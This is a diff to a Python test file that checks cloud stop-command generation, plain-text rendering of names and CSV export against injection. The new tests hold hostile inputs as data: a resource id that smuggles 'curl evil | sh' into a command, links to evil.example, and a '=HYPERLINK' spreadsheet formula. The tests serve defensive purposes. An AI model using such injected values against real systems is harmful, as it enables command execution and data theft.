@@ -1,6 +1,6 @@
 """What people read: money, and text that stays text."""
 
-from ui.components import commands, show
+from ui.components import commands, show, tables
 
 
 def test_money_has_cents_only_where_they_matter() -> None:
@@ -39,3 +39,25 @@ def test_commands_end_only_what_still_runs() -> None:
         "aws rds stop-db-instance --region eu-west-1 --db-instance-identifier big",
         "aws ec2 terminate-instances --region eu-west-1 --instance-ids i-1 i-2",
     ]
+
+
+def test_a_name_that_is_a_command_stays_a_name() -> None:
+    sly = {
+        "resource_id": "x; curl evil | sh",
+        "resource_type": "kinesis_stream",
+        "region": "eu-west-1",
+        "stopped_at": None,
+    }
+    assert commands.to_stop([sly]).endswith("--stream-name 'x; curl evil | sh'")
+
+
+def test_links_and_icons_in_names_stay_text() -> None:
+    shown = show.plain("www.evil.example http://evil.example :material/lock: [x](y)")
+    assert "www." not in shown
+    assert "http:" not in shown
+    assert ":material" not in shown.replace(r"\:", "")
+
+
+def test_no_cell_of_an_export_is_a_formula() -> None:
+    text = tables.csv_text([{"actor": "=HYPERLINK(1)", "n": -3, "who": ["@a", "b"], "t": None}])
+    assert text == "actor,n,who,t\r\n'=HYPERLINK(1),-3,\"'@a, b\",\r\n"
